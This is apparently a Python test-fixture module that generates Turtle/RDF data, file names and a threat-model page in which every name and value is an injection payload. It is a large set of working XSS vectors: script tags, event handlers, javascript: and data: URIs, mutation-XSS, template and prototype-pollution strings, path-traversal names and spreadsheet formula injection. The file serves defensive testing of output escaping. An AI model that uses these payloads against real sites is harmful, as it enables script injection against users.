"""Text that would run as script wherever it were taken for markup, script, style or an address."""

from __future__ import annotations

CALL = "window.ran=1;alert(1)"

LABELS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror='{CALL}'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f'"><img src=x onerror="{CALL}">',
    f"'><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f"<a href='javascript:{CALL}'>href</a>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>",
    f"<style>@import 'https://a.example/x.css';*{{background:url(javascript:{CALL})}}</style>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"{{{{ constructor.constructor('{CALL}')() }}}}",
    f"${{{CALL}}}",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"-->{CALL}<!--",
    f"]]>{CALL}",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"\u2028{CALL}\u2029",
    f"<b onclick={CALL}>bold</b> href",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"<base href='https://a.example/'><script src=x></script>{CALL}",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f'=HYPERLINK("javascript:{CALL}")',
    f"\u202e<script>{CALL}</script>" + "x" * 400,
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='data:text/html,<script>parent.{CALL}</script>'>",
    f"<video><source onerror='{CALL}'></video>",
    f"<body onload={CALL}>",
    f"<form action='javascript:{CALL}'><button>Send</button></form>",
    f"<button formaction='javascript:{CALL}'>Press</button>",
    f"<svg><animate onbegin='{CALL}' attributeName=x dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{CALL}'/>#x\"></svg>",
    f"<img srcset='https://a.example/x.png' src=x onerror=`{CALL}`>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xmp><p title='</xmp><svg/onload={CALL}>'>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<form id=picture-data><input name=textContent></form>",
    "<a id=ran href='javascript:alert(1)'></a><a id=violations></a>",
    f"<script src='data:text/javascript,{CALL}'></script>",
    f"<script type=module>import('https://a.example/x.js');{CALL}</script>",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&#60;img src=x onerror={CALL}&#62;",
    "{% for one in ().__class__.__mro__ %}{{ one }}{% endfor %}",
    "<plaintext>",
    "__proto__",
)
"""Labels, titles and sentences."""

LITERALS = (
    f"<ruby oncopy='{CALL}' contenteditable>literal</ruby>",
    f"<p style=\"background:url('javascript:{CALL}')\">literal</p>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<link rel=stylesheet href='https://a.example/x.css' onload={CALL}>",
    f"<input type=image src=x onerror={CALL}>",
    f"<template><script>{CALL}</script></template>",
)
"""Definitions, notes and values of other kinds; some have a datatype that is no better."""

FILES = (
    f"<img src=x onerror={CALL}>.ttl",
    f'"><script>{CALL}<%2Fscript>.ttl',
    f"' onclick='{CALL}' x='.ttl",
    f"javascript:{CALL}.ttl",
    f"${{{CALL}}}<iframe src=data:,x>.ttl",
    "..\\..\\con\u202eltt.ttl",
)
"""Names of documents."""

TITLES = (
    f"<marquee onstart='{CALL}'>title</marquee>",
    f"<audio src=x onerror='{CALL}'>",
    f"<select autofocus onfocus='{CALL}'><option>title</select>",
    f"</h1></main><img src=x onerror={CALL}>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<title onpropertychange={CALL}>title</title>",
)
"""Titles of those documents."""

IRIS = (
    "javascript:window.ran=1",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//x",
    "data:text/html,alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/x'-alert(1)-'",
    "https://a.example/&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://a.example/%3Cscript%3Ealert(1)%3C/script%3E",
    "https://a.example/?a=1&b=2#';alert(1);//",
    "urn:x:$(alert(1))",
    "pkg:npm/%3Csvg%20onload=alert(1)%3E@1",
    "https://w3id.org/aftershock/id/component/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://w3id.org/aftershock/id/component/..%2F..%2Fhealthz",
    "https://w3id.org/aftershock/id/component/__proto__",
    "blob:https://a.example/alert(1)",
    "view-source:https://a.example/'autofocus'onfocus='alert(1)",
)
"""IRIs that a Turtle parser takes."""

CORPUS = (*LABELS, *LITERALS, *FILES, *TITLES, *IRIS)

ID = "https://w3id.org/aftershock/id/"
HUB = f"{ID}component/hostile-hub"
THREAT, MITIGATION, SCENARIO = f"{ID}threat/hostile", f"{ID}mitigation/hostile", f"{ID}incident/hostile"
PREFIXES = """@prefix aft: <https://w3id.org/aftershock/ontology#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix x: <https://a.example/own#> .
"""


def estate() -> str:
    """Write an estate in which everything that has a name has a hostile one, around one hub."""
    labels = [_literal(label) for label in LABELS]
    lines = [
        PREFIXES,
        f"<> dcterms:title {labels[0]} .",
        f"<{HUB}> a aft:Registry ; skos:prefLabel {_literal('A hub <b>&amp;</b> ' + LABELS[1])} .",
    ]
    for number, label in enumerate(labels):
        iri = IRIS[number] if number < len(IRIS) else f"https://w3id.org/aftershock/id/component/hostile-{number}"
        team = f"https://a.example/team/'onclick='alert({number})"
        lines += [
            f"<{iri}> a aft:Model ; skos:prefLabel {label} ; aft:accountable <{team}> .",
            f"<{iri}> aft:distributedThrough <{HUB}> .",
            f"<{team}> a aft:Team ; skos:prefLabel {label} .",
        ]
    return "\n".join(lines) + "\n"


def documents() -> dict[str, str]:
    """Write what else users may bring, by the name of its file: a threat, a control, rules, a scenario and values."""
    label, literal, title = ([_literal(text) for text in some] for some in (LABELS, LITERALS, TITLES))
    texts = (
        f"""<{THREAT}> a aft:Threat ; aft:slug "hostile" ; skos:prefLabel {label[6]} ; skos:definition {literal[0]} ;
            aft:startsMode aft:Control ; aft:strikes aft:Registry .
        <{MITIGATION}> a aft:Mitigation ; aft:slug "hostile" ; skos:prefLabel {label[7]} ;
            skos:definition {literal[1]} ; aft:answers <{THREAT}> .
        x:effect a aft:MitigationEffect ; aft:ofMitigation <{MITIGATION}> ; aft:onRule x:rule ; dcterms:source x:us ;
            aft:factorLow 0.1 ; aft:factor 0.2 ; aft:factorHigh 0.3 ; aft:estimateBasis aft:ExpertEstimate ;
            aft:evidenceWanted {label[8]} ; skos:editorialNote {label[9]} .
        x:deployment a aft:MitigationDeployment ; aft:ofMitigation <{MITIGATION}> ; aft:deployedOn <{HUB}> ;
            aft:status aft:Unknown ; aft:wouldSettleIt {label[10]} .
        x:us a dcterms:BibliographicResource ; dcterms:title {title[2]} ; rdfs:seeAlso <javascript:alert(2)> .""",
        f"""x:carries a owl:ObjectProperty, aft:CarryingRelation ; rdfs:label {label[11]} ;
            skos:definition {label[12]} ; skos:example {label[13]} .
        x:rule a aft:PropagationRule ; skos:prefLabel {label[14]} ; aft:slug "hostile" ; aft:overRelation x:carries ;
            aft:direction aft:ObjectToSubject ; aft:fromMode aft:Control ; aft:toMode aft:Control ;
            aft:effect aft:FollowsByItself ; aft:combines aft:AnyAlternative ; aft:coinScope aft:PerSource ;
            aft:likelihoodLow 0.5 ; aft:likelihood 0.9 ; aft:likelihoodHigh 1.0 ; aft:horizonDays 30 ;
            aft:estimateBasis aft:ExpertEstimate ; dcterms:source x:us ; aft:evidenceWanted {label[15]} .
        <{ID}component/hostile-carried> a aft:Application ; skos:prefLabel {label[16]} ; x:carries <{HUB}> .""",
        f"""<{SCENARIO}> a aft:Incident ; aft:slug "hostile" ; skos:prefLabel {label[17]} ;
            dcterms:description {literal[2]} ; skos:editorialNote {label[18]} ; dcterms:source x:us ;
            aft:windowFrom "2026-03-01T00:00:00Z"^^xsd:dateTimeStamp ; aft:startsAt <{HUB}> ;
            aft:windowUntil "2026-03-09T00:00:00Z"^^xsd:dateTimeStamp ; dcterms:subject <{THREAT}> .
        x:event a aft:ScenarioEvent ; skos:prefLabel {label[19]} ; aft:ofScenario <{SCENARIO}> ;
            aft:eventKind aft:BadReleasePublished ; aft:onComponent <{HUB}> ; aft:putsInMode aft:Control ;
            aft:notBefore "2026-03-02T00:00:00Z"^^xsd:dateTimeStamp ; dcterms:source x:us ;
            aft:notAfter "2026-03-03T00:00:00Z"^^xsd:dateTimeStamp .
        x:figure a aft:Figure ; aft:ofScenario <{SCENARIO}> ; aft:measures {label[20]} ; skos:scopeNote {label[21]} ;
            aft:figureLow 4 ; aft:saidLow x:us ; aft:figureHigh 15 ; aft:saidHigh x:us .""",
        f"""<{HUB}> aft:version {literal[3]} ; skos:scopeNote {literal[4]}^^<javascript:alert(3)> ;
            skos:scopeNote {literal[5]} ; rdfs:seeAlso <data:text/html,alert(4)> .""",
    )
    return {
        name: f"{PREFIXES}<> a aft:SourceDocument ; dcterms:title {told} .\n{text}\n"
        for name, told, text in zip(FILES, title, texts, strict=False)
    }


def page() -> str:
    """Write an agent's threat-model page in which every sentence is hostile."""
    layers = [f"{label} leaves it exposed to model stealing and {label} container escape." for label in LABELS[:7]]
    factors = (
        "Autonomy of Action",
        "Goal-Driven Planning",
        "Self-Modification",
        "Dynamic Tool Use",
        "Persistent Memory",
        "Contextual Awareness",
        "Dynamic Identity",
        "Multi-Agent Interactions",
        "Non-Determinism",
        "Opacity & Reflexivity",
    )
    return "\n".join(
        [
            f"Mallory {LABELS[2]} — agentic threat model",
            f"It does {LABELS[0]} and {LABELS[5]}.",
            "OWASP AIVSS score rationale",
            *(f"| {factor} | 0.50 | |" for factor in factors),
            "Scored with the canonical OWASP AIVSS formula.",
            "MAESTRO 7-layer threat model",
            "Per-layer threats for this agent.",
            *layers,
            "MAESTRO — the 7-layer agentic threat-modeling framework.",
        ]
    )


def _literal(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'"{escaped}"'
